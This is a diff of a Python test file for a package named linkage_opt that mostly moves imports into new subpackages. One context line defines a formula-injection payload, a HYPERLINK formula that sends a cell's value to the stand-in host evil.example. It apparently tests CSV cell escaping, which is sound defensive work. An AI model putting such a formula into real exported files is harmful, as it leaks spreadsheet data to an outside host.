@@ -17,10 +17,10 @@ from conftest import TINY_TABLES, write_scenario
 from typer.testing import CliRunner
 
 from linkage_opt import lang as L
-from linkage_opt.cli import app
-from linkage_opt.load import load_scenario
-from linkage_opt.plan import escape_cell, read_plan_csv, unescape_cell, write_csv
+from linkage_opt.cli.commands import app
+from linkage_opt.inputs.load import load_scenario
 from linkage_opt.schema import DOCS_ZH, TABLE_LABELS, TABLE_ORDER, TABLES
+from linkage_opt.solving.plan import escape_cell, read_plan_csv, unescape_cell, write_csv
 
 ROOT = Path(__file__).resolve().parents[1]
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -299,9 +299,9 @@ def test_input_problems_are_reported_in_chinese(tmp_path):
 
 
 def test_whatif_and_ahp_problems_read_in_chinese(tiny_scenario, tmp_path):
-    from linkage_opt.ahp import AhpInputError, load_pairwise
+    from linkage_opt.analysis.whatif import apply_change, parse_change
     from linkage_opt.errors import ValidationError
-    from linkage_opt.whatif import apply_change, parse_change
+    from linkage_opt.inputs.ahp import AhpInputError, load_pairwise
 
     scenario = load_scenario(tiny_scenario)
     texts = []
@@ -370,8 +370,8 @@ def test_plan_folder_and_files_get_the_usual_permissions(malicious_plan):
 
 
 def test_big_tables_are_capped_in_the_workbook_and_said_so(malicious_plan, monkeypatch):
-    import linkage_opt.workbook as W
-    from linkage_opt.plan import Plan
+    import linkage_opt.outputs.workbook as W
+    from linkage_opt.solving.plan import Plan
 
     _, plans = malicious_plan
     plan = Plan.read(plans["en"])
